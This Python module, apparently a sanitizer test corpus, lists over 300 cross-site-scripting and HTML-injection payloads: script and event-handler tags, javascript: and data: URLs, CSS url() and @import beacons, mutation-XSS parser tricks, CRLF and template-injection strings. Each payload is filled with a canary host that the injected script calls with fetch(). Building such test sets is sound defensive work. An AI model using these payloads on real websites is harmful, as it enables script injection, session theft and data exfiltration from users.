"""More than 300 strings that would run a script, or call a server, if anything took them for markup. Of our own making.

`C` stands for the address of a canary server, `J` for a script that opens a dialog, writes to the console and calls it.
"""

from __future__ import annotations

__all__ = ["VECTORS", "vectors"]

_J = "alert(`xj-ran`),console.log(`xj-ran`),fetch(`C/j`)"  # no blank and no quote: it runs in an attribute without any

_SCRIPTS = (
    "<script>J</script>", "<SCRIPT>J</SCRIPT>", "<script >J</script >", "<script/x>J</script>", "<script\n>J</script\t>",
    "<script>J", "<script src=C/s.js></script>", "<script src=//HOST/s.js></script>", "<script type=module>J</script>",
    "<script type=module src=C/m.js></script>", "<scr<script>ipt>J</scr</script>ipt>", "<scr\0ipt>J</scr\0ipt>",
    '<script type=importmap>{"imports":{"x":"C/i.js"}}</script><script type=module>import "x"</script>',
    '<script type=speculationrules>{"prefetch":[{"source":"list","urls":["C/p"]}]}</script>',
    "<script>navigator.serviceWorker.register('C/sw.js')</script>", "<script>import('C/d.js')</script>",
    "<script src=data:text/javascript,J></script>", "<script\x0csrc=C/f.js></script>", "<script async src='C/a.js'>",
    "&lt;script&gt;J&lt;/script&gt;", "&amp;lt;script&amp;gt;J&amp;lt;/script&amp;gt;", "+ADw-script+AD4-J+ADw-/script+AD4-",
    "\uff1cscript\uff1eJ\uff1c/script\uff1e", "<!--[if gte IE 4]><script>J</script><![endif]-->", "<svg:script>J</svg:script>",
    "<script xmlns='http://www.w3.org/1999/xhtml'>J</script>", "</script><script>J</script>", "<script nomodule>J</script>",
    "<script charset=utf-7>J</script>", "<script>/*</script><script>*/J</script>",
)  # fmt: skip

_EVENTS = (
    "<img src=x onerror=J>", "<img src=x onerror='J'>", '<img src=x onerror="J">', "<IMG SRC=x ONERROR=J>",
    "<img/src=x/onerror=J>", "<img src=x\nonerror\n=\nJ>", "<img src=x onerror\x0c=J>", "<img src=x a='>' onerror=J>",
    '<img """><script>J</script>">', "<img src=x onload=1 onerror=J>", "<img src=x on\0error=J>", "<image src=x onerror=J>",
    "<svg onload=J>", "<svg/onload=J>", "<svg><g onload=J>", "<svg><animate onbegin=J attributeName=x dur=1s>",
    "<svg><set onbegin=J attributename=x>", "<body onload=J>", "<body onpageshow=J>", "<body onhashchange=J>", "<body onfocus=J>",
    "<html onmouseover=J>", "<details open ontoggle=J>x</details>", "<video onerror=J src=x></video>",
    "<video><source onerror=J src=x></video>", "<audio onerror=J src=x>", "<input onfocus=J autofocus>",
    "<select onfocus=J autofocus>", "<textarea onfocus=J autofocus>", "<button onfocus=J autofocus>x</button>",
    "<a onfocus=J tabindex=1 autofocus>x</a>", "<xss onfocus=J tabindex=1 autofocus>", "<marquee onstart=J>x</marquee>",
    "<iframe onload=J></iframe>", "<object onerror=J data=x></object>", "<embed onload=J src=x>", "<style onload=J></style>",
    "<link rel=stylesheet href=x onerror=J>", "<script onerror=J src=x></script>", "<frameset onload=J><frame></frameset>",
    "<p style='animation:xj 1s' onanimationstart=J>x</p><style>@keyframes xj{}</style>",
    "<p ontransitionend=J style='transition:1s'>x</p>", "<a onmouseover=J href=#>x</a>", "<div onpointerrawupdate=J>x</div>",
    "<div onscrollend=J style='overflow:scroll'>x</div>", "<p contenteditable onblur=J autofocus>x</p>",
    "<button popovertarget=p>x</button><p popover id=p onbeforetoggle=J>", "<dialog open onclose=J>x</dialog>",
    "<form onformdata=J><button>", "<math onclick=J>x</math>", "<track default onload=J src=x>", "<div oncontentvisibilityautostatechange=J>x",
    "<img src=x onerror=&#97;lert(1)>", "<img src=x onerror=&#x4a;>", "<img src=`x`onerror=J>", "<img src=x onerror=J onerror=1>",
    "<keygen autofocus onfocus=J>", "<isindex onfocus=J autofocus>", "<table background=x onerror=J>", "<bgsound onerror=J src=x>",
)  # fmt: skip

_ADDRESSES = (
    "<a href=javascript:J>x</a>", "<a href=jAvAsCrIpT:J>x</a>", "<a href='java\tscript:J'>x</a>", "<a href='java\nscript:J'>x</a>",
    "<a href=' javascript:J'>x</a>", "<a href='\x01javascript:J'>x</a>", "<a href=java&#115;cript:J>x</a>",
    "<a href=javascript&colon;J>x</a>", "<a href=javascript&#58;J>x</a>", "<a href='java\0script:J'>x</a>",
    "<a href='javascript://x%0aJ'>x</a>", "<a href=vbscript:J>x</a>", "<a href=livescript:J>x</a>",
    "<a href='data:text/html,<script>J</script>'>x</a>", "<a href=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>x</a>",
    "<a href='data:image/svg+xml,<svg onload=J>'>x</a>", "<a href=blob:C/b>x</a>", "<a href=file:///etc/passwd>x</a>",
    "<a href=view-source:C/v>x</a>", "<a href=feed:javascript:J>x</a>", "<a href=\\\\HOST\\x>x</a>", "<a href=//HOST/x>x</a>",
    "<a href='http:\\\\HOST/x'>x</a>", "<a href='/\\HOST/x'>x</a>", "<a href=C/x target=_top>x</a>", "<a href=C/x ping=C/ping>x</a>",
    "<a href=C/x download>x</a>", "<map name=m><area href=javascript:J shape=default></map>", "<base href=javascript:J//><a href=x>x</a>",
    "<base href=C/ target=_top><img src=x.png>", "<a xlink:href=javascript:J>x</a>", "<svg><a xlink:href=javascript:J><text>x</text></a></svg>",
    "<form action=javascript:J><input type=submit>", "<form id=f></form><button form=f formaction=javascript:J>x</button>",
    "<a href='javascript:J' rel=opener>x</a>", "<a href=about:srcdoc>x</a>", "<a href='intent://x#Intent;end'>x</a>",
    "<a href='https://user:pass@HOST/'>x</a>", "<a href='http://\u202egro.elpmaxe/'>x</a>", "<a href=chrome://settings>x</a>",
)  # fmt: skip

_LOADS = (
    "<img src=C/1.png>", "<img srcset='C/2.png 1x, C/3.png 2x'>", "<picture><source srcset=C/4.png><img></picture>",
    "<img src=//HOST/5.png>", "<img data-src=C/6.png>", "<img lowsrc=C/7.png dynsrc=C/8.avi>", "<img src=x longdesc=C/9 usemap=C/m>",
    "<input type=image src=C/10.png>", "<video poster=C/11.png></video>", "<video src=C/12.mp4 autoplay></video>",
    "<video><source src=C/13.mp4></video>", "<video><track default src=C/14.vtt></video>", "<audio src=C/15.mp3 autoplay>",
    "<embed src=C/16.swf>", "<object data=C/17.html></object>", "<object><param name=src value=C/18></object>",
    "<applet code=C/19.class codebase=C/></applet>", "<iframe src=C/20.html></iframe>", "<iframe srcdoc='<img src=C/21.png>'></iframe>",
    "<iframe srcdoc='&lt;script&gt;J&lt;/script&gt;'></iframe>", "<frameset><frame src=C/22.html></frameset>",
    "<link rel=stylesheet href=C/23.css>", "<link rel=preload as=image href=C/24.png>", "<link rel=prefetch href=C/25>",
    "<link rel=dns-prefetch href=//HOST>", "<link rel=preconnect href=C>", "<link rel=modulepreload href=C/26.js>",
    "<link rel=icon href=C/27.ico>", "<link rel=manifest href=C/28.json>", "<link rel=import href=C/29.html>",
    "<link rel=prerender href=C/30.html>", "<link rel='alternate stylesheet' title=x href=C/31.css>",
    "<link rel=stylesheet href='data:text/css,@import \"C/32.css\"'>", "<body background=C/33.png>", "<table background=C/34.png><tr><td>x",
    "<table><tr><td background=C/35.png>x", "<meta http-equiv=refresh content='0;url=C/36'>", "<meta http-equiv=refresh content='0;javascript:J'>",
    "<meta http-equiv=refresh content='0;url=data:text/html,<script>J</script>'>", "<meta http-equiv=set-cookie content=x=1>",
    "<meta http-equiv=content-security-policy content='script-src *'>", "<meta http-equiv=link content='<C/37.css>;rel=stylesheet'>",
    "<base href=C/><img src=38.png>", "<bgsound src=C/39.wav>", "<layer src=C/40.html></layer>", "<ilayer src=C/41>x</ilayer>",
    "<image src=C/42.png>", "<portal src=C/43></portal>", "<fencedframe src=C/44></fencedframe>", "<svg><image href=C/45.png></svg>",
    "<svg><image xlink:href=C/46.png></svg>", "<svg><use href=C/47.svg#x></use></svg>", "<svg><filter><feImage href=C/48.png></filter></svg>",
    "<svg><script href=C/49.js></script></svg>", "<svg><foreignObject><img src=C/50.png></foreignObject></svg>",
    "<math href=C/51>x</math>", "<?xml-stylesheet href='C/52.css'?>", "<form action=C/53><input autofocus></form>",
    "<button formaction=C/54>x</button>", "<menuitem icon=C/55.png>", "<html manifest=C/56.appcache>", "<blockquote cite=C/57>x</blockquote>",
    "<q cite=C/58>x</q>", "<del cite=C/59>x</del>", "<noscript><img src=C/60.png></noscript>", "<noembed><img src=C/61.png></noembed>",
    "<noframes><img src=C/62.png></noframes>", "<template><img src=C/63.png></template>", "<xmp><img src=C/64.png></xmp>",
    "<a href=C/65><img src=C/66.png></a>", "<img src='C/67.png?&#10;x'>", "<img crossorigin src=C/68.png>", "<img src=x attributionsrc=C/69>",
    "<img src=http://HOST\t/70.png>", "<source src=C/71>", "<td background='javascript:J'>", "<div background=C/72>x</div>",
)  # fmt: skip

_STYLES = (
    "<p style='background:url(C/s1)'>x</p>", "<p style='background:URL( C/s2 )'>x</p>", '<p style=\'background:url("C/s3")\'>x</p>',
    "<p style='background:\\75rl(C/s4)'>x</p>", "<p style='background:u\\72 l(C/s5)'>x</p>", "<p style='background:u/**/rl(C/s6)'>x</p>",
    "<p style='back\\67round:url(C/s7)'>x</p>", "<p style='width:expression(J)'>x</p>", "<p style='width:exp/**/ression(J)'>x</p>",
    "<p style='behavior:url(C/s8)'>x</p>", "<p style='-moz-binding:url(C/s9#x)'>x</p>", "<p style='content:url(C/s10)'>x</p>",
    "<p style='cursor:url(C/s11),auto'>x</p>", "<p style='list-style:url(C/s12);display:list-item'>x</p>",
    "<p style='border-image:url(C/s13) 1'>x</p>", "<p style='mask:url(C/s14)'>x</p>", "<p style='-webkit-mask-image:url(C/s15)'>x</p>",
    "<p style='filter:url(C/s16#f)'>x</p>", "<p style='clip-path:url(C/s17#c)'>x</p>", "<p style='shape-outside:url(C/s18);float:left'>x</p>",
    "<p style='background:image-set(\"C/s19\" 1x)'>x</p>", "<p style='background:-webkit-image-set(url(C/s20) 1x)'>x</p>",
    "<p style='background:cross-fade(url(C/s21),red)'>x</p>", "<p style='background:src(\"C/s22\")'>x</p>",
    "<p style='--x:url(C/s23);background:var(--x)'>x</p>", "<p style='background:url(C/s24'>x</p>", "<p style='background:url(\"C/s25'>x</p>",
    "<p style='x:\"\\\"};*{background:url(C/s26)}'>x</p>", "<style>*{background:url(C/s27)}</style>", "<style>@import url(C/s28.css);</style>",
    "<style>@import 'C/s29.css';</style>", "<style>@im\\70ort 'C/s30.css';</style>", "<style>@import/**/'C/s31.css'screen;</style>",
    "<style>@font-face{font-family:x;src:url(C/s32)}*{font-family:x}</style>", "<style>@charset 'x';@import url('C/s33.css')</style>",
    "<style>input[value^=a]{background:url(C/s34)}</style>", "<style>@media all{*{background:url(C/s35)}}</style>",
    "<style>@supports(color:red){*{background:url(C/s36)}}</style>", "<style>@layer a{*{background:url(C/s37)}}</style>",
    "<style>@keyframes k{from{background:url(C/s38)}}*{animation:k 1s}</style>", "<style>@container (width>0){*{background:url(C/s39)}}</style>",
    "<style>@property --p{syntax:'<url>';inherits:true;initial-value:url(C/s40)}*{background:var(--p)}</style>",
    "<style>@counter-style c{system:cyclic;symbols:url(C/s41)}li{list-style:c}</style>", "<style>@namespace url(C/s42);</style>",
    "<style>@document url(C){*{background:url(C/s43)}}</style>", "<style>a{}</style><style>}*{background:url(C/s44)}</style>",
    "<style>*{x:'</style><script>J</script>'}</style>", "<style><!--</style><img src=x onerror=J>--></style>",
    "<style>/*</style><script>J</script>*/", "<style>*{background:\\000075\\000072\\00006c(C/s45)}</style>",
    "<style>*{background:url(C/s46\n)}</style>", "<style>*::before{content:url(C/s47)}</style>", "<style>a&{b:url(C/s48)}</style>",
    "<style>.a{.b{background:url(C/s49)}}</style>", "<style>@import url(C/s50.css) layer(x) supports(color:red);</style>",
    "<style>mark{display:none!important}#xj-passage{background:url(C/s51)}.xj-banner{display:none}</style>",
    "<style>*{background:url(\\\nC/s52)}</style>", "<style>*{-webkit-box-reflect:below 0 url(C/s53)}</style>",
    "<style>*{offset-path:url(C/s54#p)}</style>", "<style media='all and (x:\"><script>J</script>'>*{}</style>",
    "<style>*{background:paint(x);width:attr(x url)}</style>", "<svg><style>*{background:url(C/s55)}</style></svg>",
)  # fmt: skip

_MUTATIONS = (
    "<noscript><p title='</noscript><img src=x onerror=J>'>", "<template><p title='</template><img src=x onerror=J>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=J>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=J>",
    "<svg></p><style><a id='</style><img src=x onerror=J>'>", "<svg><p><style><g title='</style><img src=x onerror=J>'>",
    "<math><annotation-xml encoding='text/html'><style><img src=x onerror=J></style></annotation-xml></math>",
    "<svg><foreignObject><math><mi><style><img title='</style><img src=x onerror=J>'>", "<svg><desc><noscript><img src=x onerror=J>",
    "<svg><title><style><img src=x onerror=J>", "<table><td><style></table><img src=x onerror=J>", "<!--><img src=x onerror=J>-->",
    "<!---><img src=x onerror=J>-->", "<!-- --!><img src=x onerror=J>", "<!-- -- > <img src=x onerror=J> -->", "<![CDATA[<img src=x onerror=J>]]>",
    "<svg><![CDATA[><img src=x onerror=J>]]>", "<?php <img src=x onerror=J>?>", "<!x><img src=x onerror=J>", "<!doctype x [<!ENTITY y '<img src=x onerror=J>'>]>&y;",
    "<plaintext><img src=x onerror=J>", "<xmp></xmp><img src=x onerror=J>", "<listing>&lt;img src=x onerror=J&gt;</listing>",
    "<noembed></noembed><img src=x onerror=J>", "<title></title><img src=x onerror=J>", "<textarea></textarea><img src=x onerror=J>",
    "<textarea class=article-content>&lt;img src=x onerror=J&gt;<script>J</script></textarea>",
    "<script>var contentdate = '<img src=x onerror=J><script>J<\\/script>'</script>", "<select><style></select><img src=x onerror=J></style>",
    "<select><option><script>J</script>", "<div><template shadowrootmode=open><script>J</script></template></div>",
    "<form id=x><input name=parentNode><input name=attributes></form>", "<a id=document><a id=document name=cookie>",
    "\"><img src=x onerror=J>", "'><img src=x onerror=J>", "`><img src=x onerror=J>", "\" onfocus=J autofocus x=\"", "' onfocus=J autofocus x='",
    "--><script>J</script>", "]]><script>J</script>", "*/</style><script>J</script>", "</title></textarea></script><script>J</script>",
    "%3Cscript%3EJ%3C/script%3E", "%22%3E%3Cimg src=x onerror=J%3E", "\r\nContent-Type: text/html\r\n\r\n<script>J</script>",
    "{{ ''.__class__ }}{% for x in y %}", "${J}#{J}<%= J %>", "\ufeff<script>J</script>", "\u2028<script>J</script>", "\x1b(J<script>J</script>",
    "\u202e<script>J</script>\u2066", "<\u0131mg src=x onerror=J>", "<\u017fcript>J</\u017fcript>", "<p =\"><img src=x onerror=J>\">",
    "<p/=/><img src=x onerror=J>", "<a <b onmouseover=J>x", "<<script>J//<</script>", "<p x='" + "y" * 3000 + "' onclick=J>x</p>",
    "<b><p><b><p><a><a><table><a><b>" * 20 + "<img src=x onerror=J>", "<ruby><rt><style><rp></style><img src=x onerror=J>",
)  # fmt: skip

VECTORS = (*_SCRIPTS, *_EVENTS, *_ADDRESSES, *_LOADS, *_STYLES, *_MUTATIONS)


def vectors(canary: str) -> list[str]:
    """All of them with the address of a canary server: `http://127.0.0.1:5000`."""
    host = canary.removeprefix("http://")
    return [v.replace("J", _J).replace("HOST", host).replace("C/", f"{canary}/").replace("=C>", f"={canary}>") for v in VECTORS]
